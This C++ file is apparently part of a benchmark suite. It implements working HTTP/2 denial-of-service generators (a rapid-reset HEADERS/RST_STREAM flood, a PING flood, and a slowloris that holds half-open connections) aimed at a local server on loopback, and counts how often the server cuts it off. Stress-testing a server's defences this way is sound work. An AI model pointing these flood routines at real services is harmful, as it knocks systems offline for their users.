#include "benchmarks/http2_attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <deque>
#include <string_view>

#include "benchmarks/clients_node.h"

namespace dispatch135::benchmarks {
namespace {

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
// Frame types and flags of RFC 9113, section 6.
constexpr char kHeaders = 1;
constexpr char kResetStream = 3;
constexpr char kSettings = 4;
constexpr char kPing = 6;
constexpr char kEndHeaders = 4;
constexpr std::uint32_t kMostStreams = 0x7ffffff0;
constexpr std::size_t kHalfOpen = 1'000;
constexpr std::int64_t kBatchesPerS = 100;

std::string big_endian(std::uint32_t value, int bytes) {
  std::string out;
  for (int i = bytes - 1; i >= 0; --i) out += static_cast<char>(value >> (8 * i) & 0xff);
  return out;
}

std::string frame(char type, char flags, std::uint32_t stream, const std::string& payload) {
  return big_endian(static_cast<std::uint32_t>(payload.size()), 3) + type + flags + big_endian(stream, 4) + payload;
}

std::string text(std::string_view words) { return static_cast<char>(words.size()) + std::string(words); }

// The headers of a call, without a table and without Huffman's code (RFC 7541).
std::string call_headers() {
  return std::string("\x83\x86", 2) +                             // :method POST, :scheme http
         '\x04' + text("/dispatch135.v1.FieldUnits/Connect") +    // :path
         '\x01' + text("x") +                                     // :authority
         std::string("\x0f\x10", 2) + text("application/grpc") +  // content-type
         std::string(1, '\0') + text("te") + text("trailers");
}

// -1: refused.
int connect_to(int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0) return fd;
  close(fd);
  return -1;
}

bool send_all(int fd, const std::string& bytes) {
  for (std::size_t at = 0; at < bytes.size();) {
    const auto sent = send(fd, bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
    if (sent <= 0) return false;
    at += static_cast<std::size_t>(sent);
  }
  return true;
}

// What the server says is thrown away. False: it has hung up.
bool drain(int fd) {
  char bytes[16'384];
  while (true) {
    const auto got = recv(fd, bytes, sizeof bytes, MSG_DONTWAIT);
    if (got == 0) return false;
    if (got < 0) return errno == EAGAIN || errno == EWOULDBLOCK;
  }
}

}  // namespace

void yield_to_others() {
  constexpr int kLast = 19;
  setpriority(PRIO_PROCESS, static_cast<id_t>(gettid()), kLast);
}

Http2Attack::Http2Attack(Attack attack, int port, std::uint32_t per_s) : port_(port), per_s_(per_s) {
  const std::string headers = call_headers();
  thread_ = std::thread([this, attack, headers] {
    yield_to_others();
    if (attack == Attack::kSlowLoris) return hold_half_open();
    if (attack == Attack::kPingFlood) {
      return flood([](std::uint32_t) { return frame(kPing, 0, 0, std::string(8, 'p')); });
    }
    flood([&](std::uint32_t stream) {
      return frame(kHeaders, kEndHeaders, stream, headers) + frame(kResetStream, 0, stream, big_endian(8, 4));
    });
  });
}

Http2Attack::~Http2Attack() {
  stopping_ = true;
  thread_.join();
}

void Http2Attack::flood(const std::function<std::string(std::uint32_t)>& frames) {
  while (!stopping_) {
    const int fd = connect_to(port_);
    if (fd < 0) continue;
    bool open = send_all(fd, std::string(kPreface) + frame(kSettings, 0, 0, ""));
    std::uint32_t stream = 1;
    while (open && !stopping_ && stream < kMostStreams) {
      std::string batch;
      const std::uint32_t count = std::max<std::uint32_t>(1, per_s_ / kBatchesPerS);
      for (std::uint32_t i = 0; i < count; ++i, stream += 2) batch += frames(stream);
      open = send_all(fd, batch) && drain(fd);
      sent_ += count;
      std::this_thread::sleep_for(std::chrono::milliseconds(1'000 / kBatchesPerS));
    }
    if (!open) ++cut_off_;
    close(fd);
  }
}

void Http2Attack::hold_half_open() {
  std::deque<int> held;
  while (!stopping_) {
    const int fd = connect_to(port_);
    if (fd >= 0) {
      send_all(fd, std::string(kPreface.substr(0, 10)));
      held.push_back(fd);
      ++sent_;
    }
    if (held.size() > kHalfOpen) {
      if (!drain(held.front())) ++cut_off_;
      close(held.front());
      held.pop_front();
    }
    std::this_thread::sleep_for(std::chrono::microseconds(1'000'000 / per_s_));
  }
  for (const int fd : held) {
    if (!drain(fd)) ++cut_off_;
    close(fd);
  }
}

}  // namespace dispatch135::benchmarks
